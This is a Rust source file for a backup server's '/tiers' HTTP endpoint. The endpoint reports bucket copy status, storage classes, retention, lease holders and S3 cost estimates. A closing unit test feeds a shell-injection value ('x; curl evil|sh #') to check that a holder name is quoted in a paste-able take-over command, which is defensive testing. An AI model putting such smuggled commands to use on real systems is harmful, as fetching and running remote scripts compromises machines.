//! The bucket with copies of the repository: what lies where, how far copies are, what is asked of it, what it costs.

mod audit;
mod month;

use axum::Json;
use axum::extract::State;
use holdfast_proto::details::shell_word;
use holdfast_tiers::prices::{AS_OF, Dollars, REGION};
use holdfast_tiers::{ClassTotals, Held, Holder, KindPlaces, is_archive};
use serde::Serialize;
use utoipa::ToSchema;

use self::audit::AuditState;
use self::month::{MonthState, RequestTotals};
use super::wire::{maybe_time, time};
use crate::app::App;
use crate::error::ServiceError;
use crate::http::HttpState;
use crate::repository::{KeptBack, MonthCost, Tiers as Bucket, cost, kept_back, record_error};

#[derive(Debug, Serialize, ToSchema)]
#[schema(as = Tiers)]
pub(super) struct Tiers {
    /// null: no copies are kept in a bucket
    bucket: Option<BucketState>,
}

/// A bucket with copies of the repository
#[derive(Debug, Serialize, ToSchema)]
struct BucketState {
    location: String,
    /// Whether the settings still name it; otherwise nothing is copied, and what lies there alone cannot be read
    configured: bool,
    mode: Mode,
    /// Days after which what only older restore points need is moved; null: nothing is
    move_after_days: Option<u32>,
    /// Percentage of the volume up to which is moved while less is free
    move_until_free: Option<u8>,
    /// Storage class of the copies
    class: String,
    copies: Copies,
    /// By kind
    places: Vec<Place>,
    /// When that was found
    places_found: String,
    /// By storage class
    classes: Vec<Class>,
    /// What the last round of reclaim kept out of the archive; null: nothing is archived, or no round has ended
    kept_back: Option<KeptOut>,
    writer: Writer,
    retention: Retention,
    /// Why copying does not go on, and what to do; null: it does
    failure: Option<String>,
    audit: AuditState,
    /// Since the server started
    requests: RequestTotals,
    /// This month, as far as it was counted
    month: MonthState,
    /// The month before; null: it was not counted
    last_month: Option<MonthState>,
    prices: Prices,
}

/// What the bucket is for
#[derive(Debug, Clone, Copy, Serialize, ToSchema)]
#[schema(as = TierMode)]
#[serde(rename_all = "snake_case")]
enum Mode {
    /// A copy of everything
    Copy,
    /// And old data lies there alone
    Move,
    /// Where data lives: a backup counts when the bucket has it
    Primary,
}

/// How far copies are
#[derive(Debug, Serialize, ToSchema)]
#[schema(as = TierCopies)]
struct Copies {
    /// Blobs that wait to be copied, as far as it is known
    waiting_blobs: u64,
    waiting_bytes: u64,
    /// Everything written before this is in the bucket; null: it never was
    copied_up_to: Option<String>,
    /// How long ago that was: what a loss of this machine would cost; null: it never was
    lag_seconds: Option<f64>,
    /// Whether the data folder is being compared with the bucket: more may wait than is known
    comparing: bool,
    /// Blobs that were removed here and still lie in the bucket
    removals: u64,
    /// Blobs that cannot be read here, so they are not copied
    unreadable: Vec<String>,
    /// Since the server started
    copied_blobs: u64,
    copied_bytes: u64,
}

/// What must stay in the bucket because locked restore points need it
#[derive(Debug, Serialize, ToSchema)]
#[schema(as = TierRetention)]
struct Retention {
    /// governance or compliance; null: nothing is made to stay
    mode: Option<String>,
    /// Objects that must stay
    objects: u64,
    /// Until when the first and the last of them must; null: there are none
    first: Option<String>,
    last: Option<String>,
    /// Objects that locked restore points need for longer than they must stay yet
    behind: u64,
    /// Locked restore points, as far as they were looked at
    points: u64,
    /// Those of them of which all that they need stays
    kept_points: u64,
    /// Objects that were removed here and must stay in the bucket for now
    held: u64,
    /// Why nothing can be made to stay, and what to do; null: it can
    failure: Option<String>,
}

/// Where the blobs of a kind lie
#[derive(Debug, Serialize, ToSchema)]
#[schema(as = TierPlace)]
struct Place {
    /// containers, points, snapshots, keys or repository
    kind: &'static str,
    /// In the data folder alone
    local: Amount,
    both: Amount,
    /// In the bucket alone
    bucket: Amount,
}

/// What lies in the bucket in a storage class, what is to be removed included, and the directories beside what is archived
#[derive(Debug, Serialize, ToSchema)]
#[schema(as = TierClass)]
struct Class {
    class: String,
    blobs: u64,
    bytes: u64,
    /// Whether it must be thawed before it can be read
    archive: bool,
    /// Of the blobs, those that were asked to be thawed, or are
    thawed: u64,
    /// Keeping what lay there this month, so far, in US dollars; null: the prices of a class are not known
    cost: Option<f64>,
    /// Keeping what lies there now, for a month; null: not known
    keeping_month: Option<f64>,
}

/// Containers that stay in their usual class: policies will delete what needs them before the archive has paid off
#[derive(Debug, Serialize, ToSchema)]
#[schema(as = TierKeptBack)]
struct KeptOut {
    containers: u64,
    bytes: u64,
    /// Of the archive
    class: String,
    /// For which that class is paid at least
    minimum_days: u32,
    found: String,
}

impl From<KeptBack> for KeptOut {
    fn from(kept: KeptBack) -> Self {
        let KeptBack { at_ms, containers, bytes, class, minimum_days } = kept;
        Self { containers, bytes, class, minimum_days, found: time(at_ms) }
    }
}

/// Blobs and their bytes
#[derive(Debug, Serialize, ToSchema)]
#[schema(as = TierAmount)]
struct Amount {
    blobs: u64,
    bytes: u64,
}

/// Who writes to the bucket
#[derive(Debug, Serialize, ToSchema)]
#[schema(as = TierWriter)]
struct Writer {
    /// This server, as it signed the lease last; null: it never had it
    own: Option<Signature>,
    /// Another server that has the lease now; null: none has
    other: Option<Signature>,
    /// The command that takes the bucket over from it, to be pasted; null: none has the lease
    take_over: Option<String>,
}

/// What a lease says
#[derive(Debug, Serialize, ToSchema)]
#[schema(as = TierLease)]
struct Signature {
    name: String,
    since: String,
    /// One more each time that the lease changes hands, or a server starts
    number: u64,
}

/// What costs are computed from: the price list of Amazon S3
#[derive(Debug, Serialize, ToSchema)]
#[schema(as = TierPrices)]
struct Prices {
    region: &'static str,
    /// Year and month of the price list
    as_of: &'static str,
    /// Whether the bucket is Amazon's; otherwise costs are what the same would cost there
    applies: bool,
    /// Of the class; null: not known
    gb_month: Option<f64>,
    put_1000: Option<f64>,
    get_1000: Option<f64>,
    /// A GB read
    read_gb: Option<f64>,
    /// Keeping what lies there now, for a month; null: not known
    keeping_month: Option<f64>,
}

/// The bucket with copies of the repository
///
/// What lies where is found by comparing the data folder with the record of the bucket, which takes a moment where there are
/// very many blobs, and is kept for a while. Nothing is asked of the bucket.
#[utoipa::path(get, path = "/tiers", tag = "storage", responses((status = 200, description = "The bucket", body = Tiers)))]
pub(super) async fn tiers(State(state): State<HttpState>) -> Result<Json<Tiers>, ServiceError> {
    state.blocking(|state| look(&state.app)).await.map(Json)
}

fn look(app: &App) -> Result<Tiers, ServiceError> {
    let bucket = app.tiers.as_deref().map(|bucket| describe(app, bucket)).transpose()?;
    Ok(Tiers { bucket })
}

fn describe(app: &App, bucket: &Bucket) -> Result<BucketState, ServiceError> {
    let now_ms = app.clock.now_ms();
    let (places, places_ms) = bucket.places(now_ms)?;
    let usage = bucket.usage(now_ms).map_err(record_error)?;
    let record = bucket.copies.record();
    let status = bucket.copies.status();
    let lag = status.copied_up_to_ms.map(|up_to_ms| now_ms.saturating_sub(up_to_ms).max(0));
    let own = record.own_lease().map_err(record_error)?;
    let other = record.other_writer().map_err(record_error)?;
    let this_month = cost(&usage.month, now_ms, &bucket.plan.class);
    let totals = bucket.totals(now_ms).map_err(record_error)?;
    let moving = bucket.plan.moving;
    Ok(BucketState {
        location: bucket.location.clone(),
        configured: bucket.bucket.is_some(),
        mode: match moving {
            _ if bucket.is_primary => Mode::Primary,
            Some(_) => Mode::Move,
            None => Mode::Copy,
        },
        move_after_days: moving.map(|(days, _)| days),
        move_until_free: moving.map(|(_, share)| share),
        class: bucket.plan.class.clone(),
        copies: Copies {
            waiting_blobs: status.waiting_blobs,
            waiting_bytes: status.waiting_bytes,
            copied_up_to: maybe_time(status.copied_up_to_ms),
            lag_seconds: lag.map(seconds),
            comparing: status.is_comparing,
            removals: status.removals,
            unreadable: status.unreadable.iter().map(ToString::to_string).collect(),
            copied_blobs: status.copied_blobs,
            copied_bytes: status.copied_bytes,
        },
        places: places.iter().map(Place::from).collect(),
        places_found: time(places_ms),
        classes: totals.classes.iter().map(|of| class(of, this_month.as_ref())).collect(),
        kept_back: kept_back(record).map_err(record_error)?.map(KeptOut::from),
        writer: Writer {
            own: own.as_ref().map(Signature::from),
            other: other.as_ref().map(Signature::from),
            take_over: other.as_ref().map(take_over),
        },
        retention: retention(bucket, now_ms)?,
        failure: status.failure,
        audit: audit::look(record)?,
        requests: month::totals(&bucket.requests(), app.started_ms),
        prices: prices(bucket, this_month.as_ref().map(|month| month.keeping)),
        month: month::this(&usage.month, this_month.as_ref()),
        last_month: usage.last.as_ref().map(|last| month::over(last, &bucket.plan.class)),
    })
}

fn retention(bucket: &Bucket, now_ms: i64) -> Result<Retention, ServiceError> {
    let found = bucket.retention(now_ms).map_err(record_error)?;
    Ok(Retention {
        mode: bucket.copies.retention().map(|mode| mode.to_string()),
        objects: found.objects,
        first: maybe_time(found.first_ms),
        last: maybe_time(found.last_ms),
        behind: found.behind,
        points: found.points,
        kept_points: found.kept_points,
        held: found.held,
        failure: bucket.retention_failure(),
    })
}

fn class(totals: &ClassTotals, month: Option<&MonthCost>) -> Class {
    let cost = month.and_then(|month| month.classes.iter().find(|cost| cost.class == totals.class));
    Class {
        class: totals.class.clone(),
        blobs: totals.blobs,
        bytes: totals.bytes,
        archive: is_archive(&totals.class),
        thawed: totals.thawed,
        cost: cost.map(|cost| cost.so_far.as_f64()),
        keeping_month: cost.map(|cost| cost.keeping.as_f64()),
    }
}

fn prices(bucket: &Bucket, keeping: Option<Dollars>) -> Prices {
    let of_class = bucket.plan.prices();
    Prices {
        region: REGION,
        as_of: AS_OF,
        applies: bucket.plan.is_amazon,
        gb_month: of_class.map(|prices| prices.gb_month.as_f64()),
        put_1000: of_class.map(|prices| prices.put.times(1000).as_f64()),
        get_1000: of_class.map(|prices| prices.get.times(1000).as_f64()),
        read_gb: of_class.map(|prices| prices.read_gb.as_f64()),
        keeping_month: keeping.map(Dollars::as_f64),
    }
}

fn seconds(ms: i64) -> f64 {
    std::time::Duration::from_millis(ms.unsigned_abs()).as_secs_f64()
}

impl From<&KindPlaces> for Place {
    fn from(places: &KindPlaces) -> Self {
        let amount = |held: Held| Amount { blobs: held.blobs, bytes: held.bytes };
        Self {
            kind: places.kind,
            local: amount(places.local),
            both: amount(places.both),
            bucket: amount(places.bucket),
        }
    }
}

/// The name is what someone wrote into the bucket.
fn take_over(from: &Holder) -> String {
    format!("holdfast-server tier take-over --from={}", shell_word(&from.name))
}

impl From<&Holder> for Signature {
    fn from(holder: &Holder) -> Self {
        Self { name: holder.name.clone(), since: time(holder.since_ms), number: holder.number }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_from_the_bucket_is_one_word_to_a_shell() {
        let named = |name: &str| take_over(&Holder { name: name.to_owned(), ..Holder::default() });
        assert_eq!(named("hv1:/srv"), "holdfast-server tier take-over --from=hv1:/srv");
        assert_eq!(named("x; curl evil|sh #"), "holdfast-server tier take-over --from='x; curl evil|sh #'");
        assert_eq!(named("--help"), "holdfast-server tier take-over --from='--help'");
    }
}
